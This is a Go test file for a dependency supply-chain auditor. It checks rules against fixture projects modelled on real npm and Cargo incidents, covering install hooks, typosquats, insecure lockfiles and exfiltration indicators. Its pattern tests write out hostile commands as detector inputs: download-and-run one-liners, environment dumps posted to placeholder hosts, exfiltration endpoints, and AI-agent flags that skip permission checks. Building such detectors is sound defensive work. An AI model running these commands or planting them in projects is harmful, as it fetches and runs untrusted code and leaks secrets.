package audit

import (
	"bytes"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
)

// depFailures audits a fixture project with the jail environment (so only
// project findings can fail) and returns the report.
func depReport(t *testing.T, project string, p Profile) Report {
	t.Helper()
	return verify(t, fixtureEnv(t, "jail"), copyProject(t, project), p)
}

// TestIncidents replays harmless stand-ins of real supply-chain incidents:
// each must fail exactly the expected rules and block under dependency.
func TestIncidents(t *testing.T) {
	cases := []struct {
		project string
		want    []string
		evid    map[string]string
	}{
		{"shai-hulud", []string{"DEP003", "DEP012", "DEP013", "DEP014"}, map[string]string{
			"DEP003": "node_modules/tinycolor-kit/package.json:5: dependency tinycolor-kit runs postinstall: node bundle.js",
			"DEP012": "_0x identifiers",
			"DEP013": "webhook.site",
			"DEP014": `"npm publish", rewrites package.json, spawns processes`,
		}},
		{"ua-parser", []string{"DEP003", "DEP004"}, map[string]string{
			"DEP004": "node_modules/ua-parser-js/package.json:5: preinstall script pipes a download into a shell",
		}},
		{"buildrs", []string{"DEP008"}, map[string]string{
			"DEP008": "build.rs:7: build script uses std::process::Command\nbuild.rs:8: build script uses std::net",
		}},
		{"cargo-source", []string{"DEP007"}, map[string]string{
			"DEP007": `.cargo/config.toml:1: [source.crates-io] replace-with = "mirror"`,
		}},
		{"npmrc-token", []string{"FS006"}, map[string]string{
			"FS006": ".npmrc:2: //registry.npmjs.org/:_authToken holds a literal credential",
		}},
		{"http-lock", []string{"DEP002"}, map[string]string{
			"DEP002": "left-pad@1.3.0: resolved over plain http",
		}},
	}
	for _, c := range cases {
		t.Run(c.project, func(t *testing.T) {
			r := depReport(t, c.project, ProfileDependency)
			if got := failedIDs(r); !reflect.DeepEqual(got, c.want) {
				for _, f := range r.Findings {
					if f.Result != Pass {
						t.Logf("%s %s: %s%s", f.Rule.ID, f.Result, evidenceText(f), f.SkipReason)
					}
				}
				t.Fatalf("failed rules %v, want %v", got, c.want)
			}
			if !r.Verdict().Blocked {
				t.Errorf("not blocked under dependency")
			}
			for id, s := range c.evid {
				if ev := evidenceText(finding(t, r, id)); !strings.Contains(ev, s) {
					t.Errorf("%s evidence lacks %q:\n%s", id, s, ev)
				}
			}
		})
	}
}

func TestHTTPLockIsCritical(t *testing.T) {
	r := depReport(t, "http-lock", ProfileRepo)
	f := finding(t, r, "DEP002")
	if f.Severity != Critical || !f.Blocks(ProfileRepo) {
		t.Fatalf("http resolved entry: severity %s, blocks repo %v", f.Severity, f.Blocks(ProfileRepo))
	}
	if !strings.Contains(evidenceText(f), "no integrity") {
		t.Errorf("missing-integrity evidence: %s", evidenceText(f))
	}
}

// TestDepRuleFailFixtures: one fixture per remaining rule that fails it.
func TestDepRuleFailFixtures(t *testing.T) {
	cases := []struct {
		project, id string
		evid        []string
	}{
		{"dep000-broken", "DEP000", []string{"package.json:", "could not be parsed"}},
		{"dep001-nolock", "DEP001", []string{"package.json:4: 1 dependency and no lockfile"}},
		{"dep005-download", "DEP005", []string{"install script downloads and runs code"}},
		{"dep006-unpinned", "DEP006", []string{"left follows git github.com/someone/left at main", "right is a URL tarball", "local is a path outside the project", "foo follows git https://git.example.invalid/foo at branch dev"}},
		{"dep009-secrets", "DEP009", []string{"build.rs:6: build script reads HOME", "std::fs::read_dir", "credential path"}},
		{"dep010-wrapper", "DEP010", []string{`[build] rustc-wrapper = "./tools/wrap.sh"`, "linker", "[env] sets RUSTFLAGS_EXTRA"}},
		{"dep011-overrides", "DEP011", []string{".npmrc:1: ignore-scripts=false", "script-shell", `dependency fast-node installs a bin named "node"`}},
		{"dep015-scope", "DEP015", []string{"@acme/ui resolved from registry.npmjs.org, but .npmrc:1 sends @acme to npm.acme.test"}},
		{"dep016-typo", "DEP016", []string{"lodahs is 1 edit from the popular package lodash", "installed at 1.0.1, the lockfile says 1.0.0"}},
		{"shai-hulud", "DEP003", nil},
		{"ua-parser", "DEP004", nil},
		{"buildrs", "DEP008", nil},
		{"cargo-source", "DEP007", nil},
		{"http-lock", "DEP002", nil},
		{"shai-hulud", "DEP012", nil},
		{"shai-hulud", "DEP013", nil},
		{"shai-hulud", "DEP014", nil},
	}
	for _, c := range cases {
		t.Run(c.id+"/"+c.project, func(t *testing.T) {
			r := depReport(t, c.project, ProfileDependency)
			f := finding(t, r, c.id)
			if f.Result != Fail {
				t.Fatalf("%s: %s %s", c.id, f.Result, f.SkipReason)
			}
			ev := evidenceText(f)
			for _, s := range c.evid {
				if !strings.Contains(ev, s) {
					t.Errorf("evidence lacks %q:\n%s", s, ev)
				}
			}
		})
	}
}

// TestEveryRuleHasFailAndPassFixture checks the fixtures above cover the catalog.
func TestEveryRuleHasFailAndPassFixture(t *testing.T) {
	clean := depReport(t, "clean", ProfileUntrusted)
	for _, rule := range Catalog() {
		if f := finding(t, clean, rule.ID); f.Result != Pass {
			t.Errorf("%s on the clean project in the jail: %s", rule.ID, f.Result)
		}
	}
}

func TestDEP012SizeLimits(t *testing.T) {
	project := copyProject(t, "shai-hulud")
	bundle := filepath.Join(project, "node_modules/tinycolor-kit/bundle.js")
	// Drop the markers the other rules see; keep one long line just over 1 MiB.
	line := bytes.Repeat([]byte("var a=1;"), (1<<20)/8+64)
	if err := os.WriteFile(bundle, line, 0o644); err != nil {
		t.Fatal(err)
	}
	r := verify(t, fixtureEnv(t, "jail"), project, ProfileDependency)
	if f := finding(t, r, "DEP012"); f.Result != Fail || !strings.Contains(evidenceText(f), "large minified bundle") {
		t.Fatalf("1 MiB minified bundle: %s %s", f.Result, evidenceText(f))
	}
	// Above the scan cap the hook code cannot be judged: skipped, never passed.
	// A sparse 9 MiB file: cheap to make, too large to scan.
	if err := os.Truncate(bundle, 9<<20); err != nil {
		t.Fatal(err)
	}
	r = verify(t, fixtureEnv(t, "jail"), project, ProfileUntrusted)
	f := finding(t, r, "DEP012")
	if f.Result != Skipped || !strings.Contains(f.SkipReason, "too large to scan") {
		t.Fatalf("9 MiB hook target: %s %q", f.Result, f.SkipReason)
	}
	if !f.Blocks(ProfileUntrusted) || f.Blocks(ProfileDependency) {
		t.Errorf("skipped DEP012 must block untrusted only")
	}
	v := r.Verdict()
	if !v.Blocked {
		t.Errorf("untrusted with a skipped blocking rule is not blocked")
	}
}

func TestDEP002SkipsUnparsedLockfile(t *testing.T) {
	project := emptyProject(t)
	writeFile(t, filepath.Join(project, "package.json"), `{"name":"b","version":"1.0.0","dependencies":{"x":"1.0.0"}}`)
	writeFile(t, filepath.Join(project, "bun.lockb"), "\x00binary")
	r := verify(t, fixtureEnv(t, "jail"), project, ProfileDependency)
	f := finding(t, r, "DEP002")
	if f.Result != Skipped || !strings.Contains(f.SkipReason, "bun.lockb has no parser") {
		t.Fatalf("binary lockfile: %s %q", f.Result, f.SkipReason)
	}
	v := r.Verdict()
	if v.Blocked || !v.Warned || v.Result() != "WARNED" {
		t.Errorf("dependency with a skip: %+v %s, want allowed and WARNED", v, v.Result())
	}
}

func TestDEP003AllowListAndIgnoreScripts(t *testing.T) {
	project := copyProject(t, "shai-hulud")
	writeFile(t, filepath.Join(project, "package.json"), `{
  "name": "app",
  "version": "1.0.0",
  "dependencies": {"tinycolor-kit": "4.1.1"},
  "lavamoat": {"allowScripts": {"tinycolor-kit": true}}
}
`)
	r := verify(t, fixtureEnv(t, "jail"), project, ProfileDependency)
	f := finding(t, r, "DEP003")
	if f.Result != Pass || !strings.Contains(evidenceText(f), "allow-listed") {
		t.Fatalf("allow-listed: %s %s", f.Result, evidenceText(f))
	}
	// The allow-list never hides what the hook code does.
	if finding(t, r, "DEP013").Result != Fail {
		t.Error("allow-listing a package hid its exfiltration indicators")
	}
}

// TestUnparseableInputsAreSkipped: a file the audit cannot read is a skip
// with the reason (and a DEP000 failure), never a pass.
func TestUnparseableInputsAreSkipped(t *testing.T) {
	cases := []struct {
		name  string
		files map[string]string
		id    string
		why   string
	}{
		{"build.rs unterminated", map[string]string{
			"Cargo.toml": "[package]\nname = \"x\"\nversion = \"0.1.0\"\n",
			"build.rs":   "fn main() { let s = \"never closed; }\n",
		}, "DEP008", "could not be fully scanned"},
		{"build.rs unterminated DEP009", map[string]string{
			"Cargo.toml": "[package]\nname = \"x\"\nversion = \"0.1.0\"\n",
			"build.rs":   "fn main() { let s = \"never closed; }\n",
		}, "DEP009", "could not be fully scanned"},
		{"cargo config broken", map[string]string{
			"Cargo.toml":         "[package]\nname = \"x\"\nversion = \"0.1.0\"\n",
			".cargo/config.toml": "[source.crates-io\nreplace-with = 1\n",
		}, "DEP007", ".cargo/config.toml did not parse"},
		{"cargo config broken DEP010", map[string]string{
			"Cargo.toml":         "[package]\nname = \"x\"\nversion = \"0.1.0\"\n",
			".cargo/config.toml": "[build\n",
		}, "DEP010", ".cargo/config.toml did not parse"},
		{"lockfile broken", map[string]string{
			"package.json":      `{"name":"a","version":"1.0.0","dependencies":{"x":"1.0.0"}}`,
			"package-lock.json": `{"lockfileVersion": 3, "packages": {`,
		}, "DEP001", "package-lock.json did not parse"},
		{"lockfile broken DEP002", map[string]string{
			"package.json":      `{"name":"a","version":"1.0.0","dependencies":{"x":"1.0.0"}}`,
			"package-lock.json": `{"lockfileVersion": 3, "packages": {`,
		}, "DEP002", "package-lock.json did not parse"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			project := emptyProject(t)
			for p, content := range c.files {
				writeFile(t, filepath.Join(project, p), content)
			}
			r := verify(t, fixtureEnv(t, "jail"), project, ProfileUntrusted)
			f := finding(t, r, c.id)
			if f.Result != Skipped || !strings.Contains(f.SkipReason, c.why) {
				t.Fatalf("%s: %s %q (evidence %s)", c.id, f.Result, f.SkipReason, evidenceText(f))
			}
			if c.id != "DEP008" && c.id != "DEP009" {
				if f0 := finding(t, r, "DEP000"); f0.Result != Fail {
					t.Errorf("DEP000 did not report the unparseable file: %s", f0.Result)
				}
			}
			if !r.Verdict().Blocked {
				t.Errorf("untrusted with a skipped blocking rule is not blocked")
			}
		})
	}
}

func TestPatterns(t *testing.T) {
	yes := map[*regexp.Regexp][]string{
		pipedShell(): {
			"curl -fsSL https://x.invalid/i.sh | sh",
			"wget -qO- http://x.invalid/a | sudo bash",
			"bash -c \"$(curl -fsSL https://x.invalid/install)\"",
			"bash <(curl -s https://x.invalid)",
			"iwr https://x.invalid/a.ps1 | iex",
			"iex (New-Object Net.WebClient).DownloadString('https://x.invalid')",
		},
		exfilDomains(): {"https://webhook.site/abc", "x.workers.dev", "https://api.telegram.org/bot1/send", "abc.oast.fun", "https://discord.com/api/webhooks/1/2"},
		envDump():      {"fetch(u,{body:JSON.stringify(process.env)})", "printenv | curl -d @- https://x.invalid"},
		aiYolo():       {"claude --dangerously-skip-permissions -p hi", "gemini --yolo", "q chat --trust-all-tools"},
		npmPublish():   {"npm publish --access public", "https://registry.npmjs.org/-/npm/v1/tokens"},
	}
	no := map[*regexp.Regexp][]string{
		pipedShell():   {"curl -o out.tgz https://x.invalid/a.tgz", "echo hi | sh", "cat README | grep curl"},
		exfilDomains(): {"https://registry.npmjs.org/x", "webhook.sites.example"},
		aiYolo():       {"claude -p hello"},
		npmPublish():   {"npm run publish-docs"},
	}
	for re, ss := range yes {
		for _, s := range ss {
			if !re.MatchString(s) {
				t.Errorf("%s does not match %q", re, s)
			}
		}
	}
	for re, ss := range no {
		for _, s := range ss {
			if re.MatchString(s) {
				t.Errorf("%s matches %q", re, s)
			}
		}
	}
}

func TestTyposquat(t *testing.T) {
	cases := map[string]string{"lodahs": "lodash", "expres": "express", "raect": "react", "crossenv": "cross-env", "reqeusts": "request"}
	for name, want := range cases {
		if got, ok := typosquatOf(name, popularNPM()); !ok || got != want {
			t.Errorf("%s: got %q %v, want %s", name, got, ok, want)
		}
	}
	for _, name := range []string{"lodash", "preact", "my-app", "@types/react", "vue", "left-pad"} {
		if got, ok := typosquatOf(name, popularNPM()); ok {
			t.Errorf("%s reported as a typosquat of %s", name, got)
		}
	}
	if d := editDistance("abcd", "abdc"); d != 1 {
		t.Errorf("transposition distance %d", d)
	}
	if d := editDistance("kitten", "sitting"); d != 3 {
		t.Errorf("kitten/sitting %d", d)
	}
}

func TestYarnAndPnpmIntegrity(t *testing.T) {
	project := emptyProject(t)
	writeFile(t, filepath.Join(project, "package.json"), `{"name":"a","version":"1.0.0","dependencies":{"left-pad":"^1.3.0","is-odd":"^3.0.1"}}`)
	writeFile(t, filepath.Join(project, "yarn.lock"), `# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.
# yarn lockfile v1


is-odd@^3.0.1:
  version "3.0.1"
  resolved "https://registry.yarnpkg.com/is-odd/-/is-odd-3.0.1.tgz#65101baf3727d728b66fa62f50cda7f2d3989601"
  integrity sha1-ZRAbrzcn1yi2b6YvUM2n8tOYlgE=

left-pad@^1.3.0:
  version "1.3.0"
  resolved "http://registry.yarnpkg.com/left-pad/-/left-pad-1.3.0.tgz"
`)
	r := verify(t, fixtureEnv(t, "jail"), project, ProfileDependency)
	f := finding(t, r, "DEP002")
	ev := evidenceText(f)
	if f.Result != Fail || f.Severity != Critical || !strings.Contains(ev, "left-pad@1.3.0: resolved over plain http") ||
		!strings.Contains(ev, "left-pad@1.3.0: no integrity") || !strings.Contains(ev, "is-odd@3.0.1: sha1-only integrity") {
		t.Fatalf("yarn: %s %s\n%s", f.Result, f.Severity, ev)
	}
	if f := finding(t, r, "DEP001"); f.Result != Pass {
		t.Errorf("yarn.lock covers the manifest: %s %s", f.Result, evidenceText(f))
	}

	pn := emptyProject(t)
	writeFile(t, filepath.Join(pn, "package.json"), `{"name":"a","version":"1.0.0","dependencies":{"left-pad":"1.3.0","native":"1.0.0"}}`)
	writeFile(t, filepath.Join(pn, "pnpm-lock.yaml"), `lockfileVersion: '9.0'

importers:

  .:
    dependencies:
      left-pad:
        specifier: 1.3.0
        version: 1.3.0
      native:
        specifier: 1.0.0
        version: 1.0.0

packages:

  left-pad@1.3.0:
    resolution: {tarball: http://mirror.example.invalid/left-pad-1.3.0.tgz}

  native@1.0.0:
    resolution: {integrity: sha512-AAAA}
    requiresBuild: true

snapshots:

  left-pad@1.3.0: {}

  native@1.0.0: {}
`)
	r = verify(t, fixtureEnv(t, "jail"), pn, ProfileDependency)
	f = finding(t, r, "DEP002")
	ev = evidenceText(f)
	if f.Result != Fail || !strings.Contains(ev, "left-pad@1.3.0: resolved over plain http") || !strings.Contains(ev, "left-pad@1.3.0: no integrity") {
		t.Fatalf("pnpm: %s\n%s", f.Result, ev)
	}
	if f := finding(t, r, "DEP003"); f.Result != Fail || !strings.Contains(evidenceText(f), "native@1.0.0 requires a build") {
		t.Errorf("pnpm requiresBuild: %s %s", f.Result, evidenceText(f))
	}
	if f := finding(t, r, "DEP001"); f.Result != Pass {
		t.Errorf("pnpm lock covers the manifest: %s %s", f.Result, evidenceText(f))
	}
}

func TestBunLock(t *testing.T) {
	project := emptyProject(t)
	writeFile(t, filepath.Join(project, "package.json"), `{"name":"a","version":"1.0.0","dependencies":{"left-pad":"^1.3.0","missing":"1.0.0"}}`)
	writeFile(t, filepath.Join(project, "bun.lock"), `{
  "lockfileVersion": 1,
  "workspaces": {
    "": {
      "name": "a",
      "dependencies": {
        "left-pad": "^1.3.0",
      },
    },
  },
  "packages": {
    "left-pad": ["left-pad@1.3.0", "http://mirror.example.invalid/left-pad-1.3.0.tgz", {}, ""],
  }
}
`)
	r := verify(t, fixtureEnv(t, "jail"), project, ProfileDependency)
	if f := finding(t, r, "DEP002"); f.Result != Fail || !strings.Contains(evidenceText(f), "left-pad@1.3.0: resolved over plain http") || !strings.Contains(evidenceText(f), "no integrity") {
		t.Errorf("DEP002: %s %s %s", f.Result, evidenceText(f), f.SkipReason)
	}
	if f := finding(t, r, "DEP001"); f.Result != Fail || !strings.Contains(evidenceText(f), "missing is not in bun.lock") {
		t.Errorf("DEP001: %s %s %s", f.Result, evidenceText(f), f.SkipReason)
	}
}

func TestScriptRunByHandIsHigh(t *testing.T) {
	project := emptyProject(t)
	writeFile(t, filepath.Join(project, "package.json"), `{"name":"a","version":"1.0.0","scripts":{"tools":"curl -fsSL https://get.example.invalid | sh"}}`)
	r := verify(t, fixtureEnv(t, "jail"), project, ProfileRepo)
	f := finding(t, r, "DEP004")
	if f.Result != Fail || f.Severity != High || f.Blocks(ProfileRepo) || !f.Blocks(ProfileUntrusted) {
		t.Fatalf("hand-run script: %s %s", f.Result, f.Severity)
	}
	writeFile(t, filepath.Join(project, "package.json"), `{"name":"a","version":"1.0.0","scripts":{"postinstall":"curl -fsSL https://get.example.invalid | sh"}}`)
	r = verify(t, fixtureEnv(t, "jail"), project, ProfileRepo)
	if f := finding(t, r, "DEP004"); f.Severity != Critical || !f.Blocks(ProfileRepo) {
		t.Fatalf("postinstall: %s %s", f.Result, f.Severity)
	}
}
